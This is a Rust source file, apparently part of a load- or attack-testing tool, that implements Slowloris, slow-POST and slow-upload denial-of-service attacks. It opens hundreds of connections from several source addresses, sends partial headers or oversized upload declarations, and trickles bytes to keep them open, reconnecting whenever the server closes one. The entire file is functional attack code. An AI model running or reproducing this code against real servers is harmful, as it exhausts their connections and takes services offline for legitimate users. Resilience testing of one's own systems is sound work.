//! Connections that send a little now and then, and never what the server waits for.

use super::{Attack, Field, PATIENCE};
use crate::siege::sockets::connect;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::thread;
use std::time::Instant;

/// What each connection sends.
struct Drips {
    connections: usize,
    /// Addresses that they come from.
    addresses: usize,
    head: String,
    piece: Vec<u8>,
}

/// Steps a second of all connections together are so many times their number: one every 2 s each.
const STEPS_A_SECOND: f64 = 0.5;
/// Slow uploads begin after this part of the time.
const COSTLY_PART: u32 = 5;

/// Runs one of the three attacks of this kind.
pub(super) fn run(attack: Attack, field: &Field<'_>) {
    let drips = drips(attack, field);
    if attack != Attack::Slowloris {
        // They take all places of uploads, and costly uploads come first.
        let first = field.until.saturating_duration_since(Instant::now()) / COSTLY_PART;
        thread::sleep(first);
    }
    let mut open: Vec<Option<TcpStream>> = (0..drips.connections).map(|_| None).collect();
    let per_s = (drips.connections as f64 * STEPS_A_SECOND).ceil() as u32;
    while !field.is_over() {
        for (number, slot) in open.iter_mut().enumerate() {
            let begun = Instant::now();
            if field.is_over() {
                return;
            }
            if slot.is_none() {
                *slot = begin(attack, field, &drips, number);
            } else if slot.as_mut().is_some_and(|stream| !drip(stream, &drips.piece)) {
                field.count(attack, "ended by the server");
                *slot = None;
            }
            field.pace(begun, per_s);
        }
    }
}

fn drips(attack: Attack, field: &Field<'_>) -> Drips {
    let host = field.arguments.http;
    let upload = |name: &str, bytes: u64| {
        format!(
            "POST /api/v1/titles?filename={name}.mp4 HTTP/1.1\r\nHost: {host}\r\n\
             Content-Type: video/mp4\r\nContent-Length: {bytes}\r\n\r\n"
        )
    };
    match attack {
        Attack::SlowPosts => {
            Drips { connections: 600, addresses: 6, head: upload("slow", 1 << 20), piece: vec![0] }
        }
        Attack::Crawl => {
            Drips { connections: 16, addresses: 4, head: upload("crawl", 64 << 20), piece: vec![0; 2000] }
        }
        _ => Drips {
            connections: 400,
            addresses: 4,
            head: format!("GET /watch/none HTTP/1.1\r\nHost: {host}\r\nX-Slow: "),
            piece: vec![b'a'],
        },
    }
}

fn begin(attack: Attack, field: &Field<'_>, drips: &Drips, number: usize) -> Option<TcpStream> {
    let from = attack.address(number % drips.addresses);
    let opened = connect(from, field.arguments.http, PATIENCE).and_then(|mut stream| {
        stream.write_all(drips.head.as_bytes())?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    });
    match opened {
        Ok(stream) => {
            field.count(attack, "opened");
            Some(stream)
        }
        Err(error) => {
            field.count(attack, error.kind());
            None
        }
    }
}

/// Sends a piece; whether the connection is still of use to an attacker.
fn drip(stream: &mut TcpStream, piece: &[u8]) -> bool {
    let sent = stream.write(piece);
    let is_open = |error: &std::io::Error| error.kind() == ErrorKind::WouldBlock;
    // An answer means that the server waits for nothing any more.
    let silent = stream.read(&mut [0; 512]).as_ref().err().is_some_and(is_open);
    silent && sent.as_ref().map_or_else(is_open, |_| true)
}
